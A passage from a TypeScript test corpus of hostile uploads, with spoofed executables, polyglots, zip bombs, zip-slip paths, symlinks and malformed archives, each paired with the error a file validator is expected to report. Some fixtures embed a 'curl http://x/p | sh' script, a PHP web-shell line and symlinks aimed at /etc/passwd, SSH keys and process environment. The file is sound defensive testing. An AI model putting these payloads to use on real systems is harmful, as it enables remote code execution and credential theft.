import { createHash, randomBytes } from 'node:crypto';
import type { FileType } from '../../../shared/schemas/common.ts';
import { ACTIVE_CORPUS, ACTIVE_GENUINE } from './corpus-active.ts';
import type { CorpusItem } from './corpus-item.ts';
import { compoundFile, ENCRYPTED_OOXML_STREAMS, WORD_97_STREAMS } from '../../fixtures/compound-file.ts';
import {
  buildZip,
  docx,
  docxEntries,
  encryptedPdf,
  encryptedPdfXrefStream,
  handmadePdf,
  jpeg,
  MiB,
  ofdEntries,
  patchZip,
  pdfLibPdf,
  pdfWithAttachment,
  pdfWithCatalog,
  pdfWithEmbeddedFile,
  pdfWithScript,
  pixelFloodPng,
  png,
  pngChunk,
  truncatedPdf,
  windowsExecutable,
  xlsx,
  xlsxEntries,
  zipBombDocx,
} from '../../fixtures/files.ts';
import {
  googleMotionPhoto,
  isoBmff,
  SAMSUNG_STILL_BLOCKS,
  samsungTrailer,
  ultraHdr,
  withMpf,
} from '../../fixtures/phone-photos.ts';
import {
  docxHidingArchive,
  docxHidingArchiveBehindZip64Locator,
  docxHidingArchiveInComment,
  type RawEntry,
  rawEntries,
  rawZip,
  unicodePathExtra,
  xlsxHidingEntryBehindOneMarkedSize,
  zip64Extra,
} from '../../fixtures/raw-zip.ts';

/**
 * The hostile upload corpus: files a careless or hostile county could upload as evidence, each
 * with the type it is declared as and the finding the validator must report. Built from the
 * recipes in test/fixtures/files.ts; nothing binary is committed. Used by the unit corpus test
 * (every item through inspectStream and through the validator handler) and, for a handful, by
 * the integration test (presigned POST → s3rver → validator).
 */

export type { CorpusItem } from './corpus-item.ts';

const ascii = (text: string) => Buffer.from(text, 'latin1');
const withRandom = (head: Buffer, size = 2048) => Buffer.concat([head, randomBytes(size)]);
const smallZip = () => buildZip([{ name: 'readme.txt', data: 'hidden archive' }]);

/** A JPEG with a comment segment carrying `text` right after SOI. */
function jpegWithComment(text: string): Buffer {
  const image = jpeg();
  const body = Buffer.from(text, 'latin1');
  const head = Buffer.from([0xff, 0xfe, (body.length + 2) >> 8, (body.length + 2) & 0xff]);
  return Buffer.concat([image.subarray(0, 2), head, body, image.subarray(2)]);
}

/** A JPEG whose frame header declares width × height. */
function jpegOfSize(width: number, height: number): Buffer {
  return jpeg({ width, height, entropy: Buffer.from([0x00]) });
}

/** A PNG with an ancillary chunk (`prVt`) holding `data` just before IEND. */
function pngWithChunk(data: Buffer): Buffer {
  const image = png();
  return Buffer.concat([
    image.subarray(0, image.length - 12),
    pngChunk('prVt', data),
    image.subarray(image.length - 12),
  ]);
}

/** A DOCX written byte by byte, with one more entry after the document's own. */
function docxRaw(extra: RawEntry): Buffer {
  return rawZip([...rawEntries(docxEntries()), extra]);
}

/** A DOCX with `safe` renamed to `unsafe` (same byte length) in both headers. */
async function docxRenamed(safe: string, unsafe: string): Promise<Buffer> {
  return patchZip(await buildZip(docxEntries({ extra: [{ name: safe, data: '#!/bin/sh\necho pwned\n' }] })), safe, {
    rename: unsafe,
  });
}

export const CORPUS: readonly CorpusItem[] = [
  // ── spoofed types: the bytes are not what the declaration says ──────────────────────────────
  {
    id: 'exe-as-pdf',
    category: 'spoofed type',
    declared: 'pdf',
    bytes: async () => windowsExecutable(),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'exe-as-png',
    category: 'spoofed type',
    declared: 'png',
    bytes: async () => windowsExecutable(),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'exe-as-jpeg',
    category: 'spoofed type',
    declared: 'jpeg',
    bytes: async () => windowsExecutable(),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'exe-as-docx',
    category: 'spoofed type',
    declared: 'docx',
    bytes: async () => windowsExecutable(),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'exe-as-xlsx',
    category: 'spoofed type',
    declared: 'xlsx',
    bytes: async () => windowsExecutable(),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'self-extracting-exe-as-docx',
    category: 'spoofed type',
    declared: 'docx',
    bytes: async () => Buffer.concat([windowsExecutable(), await docx()]),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'elf-as-pdf',
    category: 'spoofed type',
    declared: 'pdf',
    bytes: async () => withRandom(ascii('\x7fELF\x02\x01\x01')),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'shell-script-as-pdf',
    category: 'spoofed type',
    declared: 'pdf',
    bytes: async () => ascii('#!/bin/sh\ncurl http://x/p | sh\n'),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'html-as-pdf',
    category: 'spoofed type',
    declared: 'pdf',
    bytes: async () => ascii('<!doctype html><script>fetch("/v1/ops/summary")</script>'),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'svg-script-as-png',
    category: 'spoofed type',
    declared: 'png',
    bytes: async () => ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    expect: 'TYPE_MISMATCH',
  },
  { id: 'zip-as-pdf', category: 'spoofed type', declared: 'pdf', bytes: smallZip, expect: 'TYPE_MISMATCH' },
  { id: 'docx-as-pdf', category: 'spoofed type', declared: 'pdf', bytes: () => docx(), expect: 'TYPE_MISMATCH' },
  { id: 'xlsx-as-docx', category: 'spoofed type', declared: 'docx', bytes: () => xlsx(), expect: 'TYPE_MISMATCH' },
  { id: 'pdf-as-docx', category: 'spoofed type', declared: 'docx', bytes: () => pdfLibPdf(), expect: 'TYPE_MISMATCH' },
  { id: 'jpeg-as-png', category: 'spoofed type', declared: 'png', bytes: async () => jpeg(), expect: 'TYPE_MISMATCH' },
  { id: 'png-as-ofd', category: 'spoofed type', declared: 'ofd', bytes: async () => png(), expect: 'TYPE_MISMATCH' },
  {
    id: 'ole2-doc-as-docx',
    category: 'spoofed type',
    declared: 'docx',
    bytes: async () => withRandom(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'password-protected-docx',
    category: 'spoofed type',
    declared: 'docx',
    bytes: async () => compoundFile(ENCRYPTED_OOXML_STREAMS, { order: 'fat-last' }),
    expect: 'OFFICE_PASSWORD',
  },
  {
    id: 'password-protected-xlsx-as-pdf',
    category: 'spoofed type',
    declared: 'pdf',
    bytes: async () => compoundFile(ENCRYPTED_OOXML_STREAMS, { sectorSize: 4096 }),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'word97-doc-as-docx',
    category: 'spoofed type',
    declared: 'docx',
    bytes: async () => compoundFile(WORD_97_STREAMS, { order: 'directory-last' }),
    expect: 'OFFICE_OLD_FORMAT',
  },
  {
    id: 'gif-as-jpeg',
    category: 'spoofed type',
    declared: 'jpeg',
    bytes: async () => withRandom(ascii('GIF89a')),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'webp-as-jpeg',
    category: 'spoofed type',
    declared: 'jpeg',
    bytes: async () => withRandom(ascii('RIFF\x00\x10\x00\x00WEBPVP8 ')),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'rar-as-docx',
    category: 'spoofed type',
    declared: 'docx',
    bytes: async () => withRandom(ascii('Rar!\x1a\x07\x01\x00')),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: '7z-as-xlsx',
    category: 'spoofed type',
    declared: 'xlsx',
    bytes: async () => withRandom(Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'gzip-as-ofd',
    category: 'spoofed type',
    declared: 'ofd',
    bytes: async () => withRandom(Buffer.from([0x1f, 0x8b, 0x08, 0x00])),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'junk-before-pdf-header',
    category: 'spoofed type',
    declared: 'pdf',
    bytes: async () => Buffer.concat([ascii('MZ-not-quite\n'), handmadePdf()]),
    expect: 'TYPE_MISMATCH',
  },
  {
    id: 'text-then-pdf-header',
    category: 'spoofed type',
    declared: 'pdf',
    bytes: async () => Buffer.concat([ascii('<html>\n'), handmadePdf()]),
    expect: 'PDF_NO_HEADER',
  },

  // ── polyglots: a second reader also accepts the file ──────────────────────────────────────
  {
    id: 'pdf+zip',
    category: 'polyglot',
    declared: 'pdf',
    bytes: async () => Buffer.concat([handmadePdf(), await smallZip()]),
    expect: 'POLYGLOT',
  },
  {
    id: 'pdf+docx+eof',
    category: 'polyglot',
    declared: 'pdf',
    bytes: async () => Buffer.concat([handmadePdf(), await docx(), ascii('\n%%EOF\n')]),
    expect: 'POLYGLOT',
  },
  {
    id: 'pdf-stream-holding-zip',
    category: 'polyglot',
    declared: 'pdf',
    bytes: async () => pdfWithEmbeddedFile(await docx()),
    expect: 'POLYGLOT',
  },
  {
    id: 'png+zip',
    category: 'polyglot',
    declared: 'png',
    bytes: async () => Buffer.concat([png(), await smallZip()]),
    expect: 'POLYGLOT',
  },
  {
    id: 'png-chunk-holding-zip',
    category: 'polyglot',
    declared: 'png',
    bytes: async () => pngWithChunk(await smallZip()),
    expect: 'POLYGLOT',
  },
  {
    id: 'jpeg+zip',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => Buffer.concat([jpeg(), await smallZip()]),
    expect: 'POLYGLOT',
  },
  {
    id: 'jpeg+rar',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => Buffer.concat([jpeg(), withRandom(ascii('Rar!\x1a\x07\x01\x00'), 512)]),
    expect: 'TRAILING_DATA',
  },
  {
    id: 'jpeg+pdf-in-comment',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => jpegWithComment('%PDF-1.7\n1 0 obj <<>> endobj'),
    expect: 'POLYGLOT',
  },

  // Round 16: what phones write after EOI, and look-alikes hiding data the same way.
  {
    id: 'jpeg-mpf-image-past-the-end',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () =>
      withMpf(jpeg(), [jpeg()], {
        adjust: (entries) => {
          if (entries[1]) entries[1].size += 4096;
        },
      }),
    expect: 'IMAGE_MALFORMED',
  },
  {
    id: 'jpeg-mpf-images-overlap',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () =>
      withMpf(jpeg(), [jpeg(), jpeg()], {
        adjust: (entries) => {
          if (entries[2]) entries[2].offset -= 16;
        },
      }),
    expect: 'TRAILING_DATA',
  },
  {
    id: 'jpeg-mpf-lists-a-zip',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => withMpf(jpeg(), [await smallZip(), jpeg()]),
    expect: 'IMAGE_MALFORMED',
  },
  {
    id: 'jpeg-mpf-lists-a-pdf',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => withMpf(jpeg(), [handmadePdf()]),
    expect: 'IMAGE_MALFORMED',
  },
  {
    id: 'jpeg-mpf-bytes-over',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => Buffer.concat([ultraHdr(jpeg(), jpeg()), withRandom(ascii('Rar!\x1a\x07\x01\x00'), 512)]),
    expect: 'TRAILING_DATA',
  },
  {
    id: 'jpeg-mpf-image-with-its-own-trailer',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => withMpf(jpeg(), [Buffer.concat([jpeg(), ascii('#!/bin/sh\necho pwned\n')])]),
    expect: 'TRAILING_DATA',
  },
  {
    id: 'jpeg-mpf-gap-before-image',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () =>
      withMpf(jpeg(), [Buffer.concat([ascii('<?php system($_GET[1]);?>'), jpeg()])], {
        adjust: (entries) => {
          if (entries[1]) {
            entries[1].offset += 25;
            entries[1].size -= 25;
          }
        },
      }),
    expect: 'TRAILING_DATA',
  },
  {
    id: 'jpeg-mpf-gain-map-flood',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => ultraHdr(jpeg(), jpegOfSize(65_535, 65_535)),
    expect: 'IMAGE_TOO_MANY_PIXELS',
  },
  {
    id: 'jpeg-mpf-a-million-images',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => withMpf(jpeg(), [jpeg()], { numberOfImages: 1_000_000 }),
    expect: 'TRAILING_DATA',
  },
  {
    id: 'jpeg-fake-samsung-trailer-hiding-a-zip',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () =>
      Buffer.concat([jpeg(), samsungTrailer([{ type: 0x0a01, name: 'Image_UTC_Data', data: await smallZip() }])]),
    expect: 'POLYGLOT',
  },
  {
    id: 'jpeg-samsung-directory-leaves-bytes-over',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => Buffer.concat([jpeg(), ascii('#!/bin/sh\necho pwned\n'), samsungTrailer(SAMSUNG_STILL_BLOCKS)]),
    expect: 'TRAILING_DATA',
  },
  {
    id: 'jpeg-seft-without-directory',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => Buffer.concat([jpeg(), withRandom(ascii('payload'), 512), ascii('\x20\0\0\0SEFT')]),
    expect: 'TRAILING_DATA',
  },
  {
    id: 'jpeg-google-motion-photo',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () => googleMotionPhoto(jpeg(), isoBmff()),
    expect: 'IMAGE_MOTION_PHOTO',
  },
  {
    id: 'jpeg-samsung-motion-photo',
    category: 'polyglot',
    declared: 'jpeg',
    bytes: async () =>
      Buffer.concat([
        jpeg(),
        samsungTrailer([...SAMSUNG_STILL_BLOCKS, { type: 0x0a30, name: 'MotionPhoto_Data', data: isoBmff() }]),
      ]),
    expect: 'IMAGE_MOTION_PHOTO',
  },
  {
    id: 'docx-first-entry-pdf',
    category: 'polyglot',
    declared: 'docx',
    bytes: () =>
      buildZip(docxEntries({ first: [{ name: 'aaa.txt', data: '%PDF-1.4\n1 0 obj <<>> endobj', compress: false }] })),
    expect: 'POLYGLOT',
  },
  {
    id: 'docx+trailing-script',
    category: 'polyglot',
    declared: 'docx',
    bytes: async () => Buffer.concat([await docx(), ascii('#!/bin/sh\necho x\n')]),
    expect: 'TRAILING_DATA',
  },
  {
    // Round 17: a line break after the end record is padding; a script after one is not.
    id: 'docx+line-break-then-script',
    category: 'polyglot',
    declared: 'docx',
    bytes: async () => Buffer.concat([await docx(), ascii('\r\n#!/bin/sh\n')]),
    expect: 'TRAILING_DATA',
  },

  // ── zip bombs ──────────────────────────────────────────────────────────────────────────
  {
    id: 'bomb-docx-ratio',
    category: 'zip bomb',
    declared: 'docx',
    bytes: () => zipBombDocx(24 * MiB),
    expect: 'ZIP_BOMB',
  },
  {
    id: 'bomb-xlsx-sheet',
    category: 'zip bomb',
    declared: 'xlsx',
    bytes: () =>
      buildZip(xlsxEntries({ extra: [{ name: 'xl/worksheets/sheet2.xml', data: Buffer.alloc(24 * MiB, '<row/>') }] })),
    expect: 'ZIP_BOMB',
  },
  {
    id: 'bomb-ofd-resource',
    category: 'zip bomb',
    declared: 'ofd',
    bytes: () => buildZip(ofdEntries({ extra: [{ name: 'Doc_0/Res/image1.png', data: Buffer.alloc(24 * MiB) }] })),
    expect: 'ZIP_BOMB',
  },
  {
    id: 'bomb-nested-zip',
    category: 'zip bomb',
    declared: 'docx',
    bytes: async () => {
      const inner = await buildZip([
        { name: '0.bin', data: Buffer.alloc(12 * MiB), compress: false },
        { name: '1.bin', data: Buffer.alloc(12 * MiB), compress: false },
      ]);
      return buildZip(docxEntries({ extra: [{ name: 'word/embeddings/package1.zip', data: inner }] }));
    },
    expect: 'ZIP_BOMB',
  },
  {
    id: 'bomb-headers-understate',
    category: 'zip bomb',
    declared: 'docx',
    bytes: async () =>
      patchZip(
        await buildZip(docxEntries({ extra: [{ name: 'word/media/big.bin', data: Buffer.alloc(32 * MiB) }] })),
        'word/media/big.bin',
        {
          size: 100 * 1024,
        },
      ),
    expect: 'ZIP_BOMB',
  },
  {
    id: 'bomb-too-many-entries',
    category: 'zip bomb',
    declared: 'docx',
    bytes: () =>
      buildZip(
        docxEntries({
          extra: Array.from({ length: 10_001 }, (_, i) => ({
            name: `word/media/i${i}.png`,
            data: 'x',
            compress: false,
          })),
        }),
      ),
    expect: 'ZIP_TOO_MANY_ENTRIES',
  },

  // ── zip slip: entry names that escape the extraction folder ─────────────────────────────
  {
    id: 'slip-dotdot',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('xx/xx/evil.sh', '../../evil.sh'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-inner-dotdot',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('word/xx/xx/x.sh', 'word/../../x.sh'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-absolute',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('xetc/cron.d/x', '/etc/cron.d/x'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-drive-letter',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('xx/Windows/x.bat', 'C:/Windows/x.bat'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-drive-relative',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('word/a.bat', 'C:evil.bat'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  // Names Windows writes as another name: the part is judged by the name it has in the zip, and
  // opened from disk by the other.
  {
    id: 'slip-trailing-dot',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('word/settings.xmlx', 'word/settings.xml.'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-alternate-stream',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('word/styles.xmlxxxxxxx', 'word/styles.xml::$DATA'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-trailing-space-folder',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('wordx/a.xml', 'word /a.xml'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-backslash',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('word/xx/evil', 'word\\..\\evil'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-windows-absolute',
    category: 'zip slip',
    declared: 'xlsx',
    bytes: async () =>
      patchZip(await buildZip(xlsxEntries({ extra: [{ name: 'xx/Windows/x.bat', data: 'x' }] })), 'xx/Windows/x.bat', {
        rename: 'C:\\Windows\\x.bat',
      }),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-unc',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('xxsrv/share/x', '\\\\srv\\share\\x'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-nul',
    category: 'zip slip',
    declared: 'docx',
    bytes: () => docxRenamed('word/x.sh.xml', 'word/x.sh\u0000xml'),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-ofd',
    category: 'zip slip',
    declared: 'ofd',
    bytes: async () =>
      patchZip(await buildZip(ofdEntries({ extra: [{ name: 'Doc_0/xx/x.sh', data: 'x' }] })), 'Doc_0/xx/x.sh', {
        rename: 'Doc_0/../x.sh',
      }),
    expect: 'ZIP_UNSAFE_PATH',
  },
  // Round 12: names a reader folds, unescapes or trims into another.
  {
    id: 'slip-full-width-solidus',
    category: 'zip slip',
    declared: 'docx',
    bytes: async () => docxRaw({ name: 'word／vbaProject.bin', data: 'x', flags: 0x800 }),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-control-character',
    category: 'zip slip',
    declared: 'docx',
    bytes: async () => docxRaw({ name: 'word/vbaProject.bin\u0001', data: 'x' }),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-empty-folder',
    category: 'zip slip',
    declared: 'docx',
    bytes: async () => docxRaw({ name: 'word//document.xml', data: '<w:document/>' }),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-percent-escaped-letter',
    category: 'zip slip',
    declared: 'docx',
    bytes: async () => docxRaw({ name: 'word/%76baProject.bin', data: 'x' }),
    expect: 'ZIP_UNSAFE_PATH',
  },
  {
    id: 'slip-percent-escaped-solidus',
    category: 'zip slip',
    declared: 'xlsx',
    bytes: async () => rawZip([...rawEntries(xlsxEntries()), { name: 'xl%2FvbaProject.bin', data: 'x' }]),
    expect: 'ZIP_UNSAFE_PATH',
  },

  // ── symbolic links, encryption and unsupported or malformed archives ─────────────────────
  {
    id: 'symlink-docx',
    category: 'symlink',
    declared: 'docx',
    bytes: () => buildZip(docxEntries({ extra: [{ name: 'word/media/link', data: '/etc/passwd', mode: 0o120777 }] })),
    expect: 'ZIP_SYMLINK',
  },
  {
    id: 'symlink-xlsx',
    category: 'symlink',
    declared: 'xlsx',
    bytes: () =>
      buildZip(
        xlsxEntries({ extra: [{ name: 'xl/media/link', data: '../../../../root/.ssh/id_rsa', mode: 0o120777 }] }),
      ),
    expect: 'ZIP_SYMLINK',
  },
  {
    id: 'symlink-ofd',
    category: 'symlink',
    declared: 'ofd',
    bytes: () =>
      buildZip(ofdEntries({ extra: [{ name: 'Doc_0/Res/link', data: '/proc/self/environ', mode: 0o120777 }] })),
    expect: 'ZIP_SYMLINK',
  },
  {
    id: 'zip-encrypted-entry',
    category: 'encrypted',
    declared: 'docx',
    bytes: async () => patchZip(await docx(), 'word/document.xml', { flags: (f) => f | 1 }),
    expect: 'ZIP_ENCRYPTED',
  },
  {
    // Round 17: zip64 records are read, and must give the real values (zip64.test.ts has more).
    id: 'zip64-end-record-counts-other-entries',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => rawZip(rawEntries(docxEntries()), { zip64End: { entries: 1 } }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip64-locator-points-elsewhere',
    category: 'malformed archive',
    declared: 'ofd',
    bytes: async () => rawZip(rawEntries(ofdEntries()), { zip64End: { locator: (at) => at - 8 } }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip64-local-size-disagrees',
    category: 'malformed archive',
    declared: 'xlsx',
    bytes: async () =>
      rawZip([
        ...rawEntries(xlsxEntries()),
        { name: 'xl/media/a.txt', data: 'x', method: 0, localExtra: zip64Extra(1000, 1) },
      ]),
    expect: 'ZIP_MALFORMED',
  },
  {
    // A zip64 field of zeros reserved beside real sizes is read as those sizes only in a deflated
    // entry: stored, a reader taking the zeros would find this entry's data to be the next header.
    id: 'zip64-reserved-zeros-stored-entry-hiding-a-header',
    category: 'malformed archive',
    declared: 'xlsx',
    bytes: async () =>
      rawZip([
        ...rawEntries(xlsxEntries()),
        {
          name: 'xl/media/a.bin',
          data: rawZip([{ name: 'xl/vbaProject.bin', data: 'x', method: 0 }]),
          method: 0,
          localExtra: zip64Extra(0, 0),
        },
      ]),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip64-central-field-without-marked-value',
    category: 'malformed archive',
    declared: 'ofd',
    bytes: async () =>
      rawZip([
        ...rawEntries(ofdEntries()),
        { name: 'Doc_0/a.txt', data: 'x', method: 0, centralExtra: zip64Extra(1000) },
      ]),
    expect: 'ZIP_MALFORMED',
  },
  {
    // Round 18: a local header marking one size of two all ones is read by position by some
    // readers and by the marks by others; libarchive's streaming reader finds a hidden macro project.
    id: 'zip64-local-one-size-marked-hiding-an-entry',
    category: 'malformed archive',
    declared: 'xlsx',
    bytes: async () => xlsxHidingEntryBehindOneMarkedSize(),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-duplicate-entry',
    category: 'malformed archive',
    declared: 'docx',
    bytes: () => buildZip(docxEntries({ extra: [{ name: 'word/document.xml', data: '<evil/>' }] })),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-central-name-differs',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => patchZip(await docx(), 'word/styles.xml', { rename: 'word/STYLES.xml', where: 'central' }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-hidden-bytes',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => {
      const file = Buffer.from(await docx());
      const second = file.indexOf(ascii('PK\x03\x04'), 1);
      file[second + 3] = 0x00;
      return file;
    },
    expect: 'ZIP_MALFORMED',
  },
  // Round 12: archives other readers would read as other parts, or under other names.
  {
    id: 'zip-unicode-path-names-another-part',
    category: 'malformed archive',
    declared: 'docx',
    // 7-Zip, WinRAR and .NET take the Unicode Path field's name over the header's.
    bytes: async () =>
      docxRaw({
        name: 'word/media/image1.png',
        data: 'Attribute VB_Name',
        localExtra: unicodePathExtra('word/media/image1.png', 'word/vbaProject.bin'),
      }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-central-unicode-path-names-another-part',
    category: 'malformed archive',
    declared: 'xlsx',
    bytes: async () =>
      rawZip([
        ...rawEntries(xlsxEntries()),
        {
          name: 'xl/media/image1.png',
          data: 'Attribute VB_Name',
          centralExtra: unicodePathExtra('xl/media/image1.png', 'xl/vbaProject.bin'),
        },
      ]),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-name-overlong-utf8-solidus',
    category: 'malformed archive',
    declared: 'docx',
    // `C0 AF` is `/` to a lax UTF-8 decoder: word/vbaProject.bin.
    bytes: async () => docxRaw({ name: Buffer.from('word\xc0\xafvbaProject.bin', 'latin1'), data: 'x', flags: 0x800 }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-name-not-gbk',
    category: 'malformed archive',
    declared: 'ofd',
    bytes: async () =>
      rawZip([...rawEntries(ofdEntries()), { name: Buffer.from('Doc_0/Res/\xff\xfe.xml', 'latin1'), data: '<x/>' }]),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-name-utf8-in-local-header-only',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => {
      const file = docxRaw({ name: 'word/media/图片1.png', data: 'x', flags: 0x800 });
      const central = file.lastIndexOf(ascii('PK\x01\x02'));
      file.writeUInt16LE(file.readUInt16LE(central + 8) & ~0x800, central + 8);
      return file;
    },
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-extra-field-runs-past-its-space',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () =>
      docxRaw({ name: 'word/media/image1.png', data: 'x', localExtra: Buffer.from([0x75, 0x70, 0xff, 0x00, 0x01]) }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-folder-holding-data',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => docxRaw({ name: 'word/vbaProject.bin/', data: 'Attribute VB_Name' }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-end-record-in-comment',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => docxHidingArchiveInComment(),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip64-locator-in-last-central-comment',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => docxHidingArchiveBehindZip64Locator(),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-descriptor-disagrees-with-local-header',
    category: 'malformed archive',
    declared: 'ofd',
    bytes: async () =>
      rawZip([
        ...rawEntries(ofdEntries()),
        {
          name: 'Doc_0/Res/image1.png',
          data: 'x'.repeat(300),
          descriptor: true,
          local: { crc: 1, compressedSize: 4, size: 4 },
        },
      ]),
    expect: 'ZIP_MALFORMED',
  },
  // Refused before round 12, pinned.
  {
    id: 'zip-comment-length-past-end',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => rawZip(rawEntries(docxEntries()), { comment: ascii('x'), commentLength: 40 }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-central-header-twice',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => {
      const entries = rawEntries(docxEntries());
      return rawZip(entries, { central: [...entries.keys(), 2] });
    },
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-central-points-into-entry-data',
    category: 'malformed archive',
    declared: 'docx',
    // Overlapping entries: the last central header leads into the stored data before it, to a
    // local header for word/vbaProject.bin that the walk read as a picture's bytes.
    bytes: async () => {
      const file = docxHidingArchive('comment', () => Buffer.alloc(0));
      const hidden = file.lastIndexOf(ascii('PK\x03\x04'));
      file.writeUInt32LE(hidden, file.lastIndexOf(ascii('PK\x01\x02')) + 42);
      return file;
    },
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-content-types-twice-in-case',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => docxRaw({ name: '[CONTENT_TYPES].XML', data: '<Types/>' }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-local-method-differs-from-central',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () => docxRaw({ name: 'word/media/image1.png', data: 'x'.repeat(300), local: { method: 0, size: 0 } }),
    expect: 'ZIP_MALFORMED',
  },
  {
    id: 'zip-stored-sizes-differ',
    category: 'malformed archive',
    declared: 'docx',
    bytes: async () =>
      docxRaw({ name: 'word/media/image1.png', data: 'x'.repeat(300), method: 0, local: { size: 30 } }),
    expect: 'ZIP_MALFORMED',
  },
  // Round 14: a stored entry with a data descriptor ends, to Apache Commons Compress (ofdrw's
  // reader), at the first zip signature in its data: the rest is a second Document.xml to it.
  {
    id: 'zip-stored-descriptor-hiding-an-entry',
    category: 'malformed archive',
    declared: 'ofd',
    bytes: async () => {
      const hidden = rawZip([{ name: 'Doc_0/Document.xml', data: '<ofd:Document/>' }]);
      const data = Buffer.concat([ascii('image data'), hidden.subarray(0, hidden.indexOf(ascii('PK\x01\x02')))]);
      return rawZip([
        ...rawEntries(ofdEntries()),
        { name: 'Doc_0/Res/image_1.png', data, method: 0, descriptor: true },
      ]);
    },
    expect: 'ZIP_MALFORMED',
  },
  // Round 14: names as readers other than the walk read them.
  {
    id: 'zip-names-composed-and-decomposed',
    category: 'malformed archive',
    declared: 'ofd',
    // One file on macOS, where a reader that unpacks the package writes both.
    bytes: async () =>
      rawZip([
        ...rawEntries(ofdEntries()),
